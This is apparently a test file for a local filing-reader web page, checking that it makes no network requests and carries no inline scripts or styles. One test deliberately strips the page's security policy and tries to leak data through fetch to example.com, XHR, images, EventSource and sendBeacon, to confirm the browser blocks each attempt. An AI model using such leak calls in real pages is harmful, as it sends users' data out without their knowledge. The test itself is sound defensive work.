// Nothing leaves the page once it has started, whatever asks for it.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { SAMPLE, filing, read, start } from './browser.mjs';

let app;
before(async () => (app = await start()));
after(() => app.close());

test('reading a filing asks for nothing', async () => {
  const page = await app.open();
  const started = page.requests.length;
  assert.ok(page.requests.every((url) => url.startsWith(app.url)), 'the page loads only from where it is');
  await read(page, SAMPLE);
  for (const place of ['findings', 's1', 'prose', 'charts', 'notes']) {
    await page.evaluate((place) => (location.hash = place), place);
    await page.waitForTimeout(50);
  }
  const q4 = filing('juniper/2003q4-ex99.txt');
  if (q4) await read(page, q4);
  assert.deepEqual(page.requests.slice(started), []);
  await page.close();
});

test('what would send something is stopped by the browser', async () => {
  const page = await app.open();
  const started = page.requests.length;
  const reached = [];
  await page.route('**/*', (route) => (reached.push(route.request().url()), route.continue()));
  const tried = await page.evaluate(async () => {
    document.querySelectorAll('meta[http-equiv]').forEach((meta) => meta.remove());
    const failed = async (try_) => {
      try {
        await try_();
        return 'went through';
      } catch {
        return 'stopped';
      }
    };
    const image = (src) =>
      new Promise((done, fail) => Object.assign(new Image(), { onload: done, onerror: fail, src }));
    return {
      fetch: await failed(() => fetch('?leak=fetch')),
      elsewhere: await failed(() => fetch('https://example.com/?leak=elsewhere', { mode: 'no-cors' })),
      xhr: await failed(
        () =>
          new Promise((done, fail) => {
            const request = Object.assign(new XMLHttpRequest(), { onload: done, onerror: fail });
            request.open('GET', '?leak=xhr');
            request.send();
          }),
      ),
      image: await failed(() => image('www/leak.png')),
      events: await failed(
        () => new Promise((done, fail) => Object.assign(new EventSource('?leak=events'), { onopen: done, onerror: fail })),
      ),
      beacon: String(navigator.sendBeacon('?leak=beacon', 'x')),
    };
  });
  const { beacon, ...others } = tried;
  assert.deepEqual(others, { fetch: 'stopped', elsewhere: 'stopped', xhr: 'stopped', image: 'stopped', events: 'stopped' });
  await page.waitForTimeout(200);
  assert.deepEqual(reached, [], `nothing reaches the network (sendBeacon said ${beacon})`);
  assert.ok(page.requests.length >= started);
  await page.close();
});

test('no script and no style stands in the document itself', async () => {
  const page = await app.open();
  await read(page, SAMPLE);
  const inline = await page.evaluate(
    () => document.querySelectorAll('script:not([src]), style, [style], [onclick]').length,
  );
  assert.equal(inline, 0);
  await page.close();
});
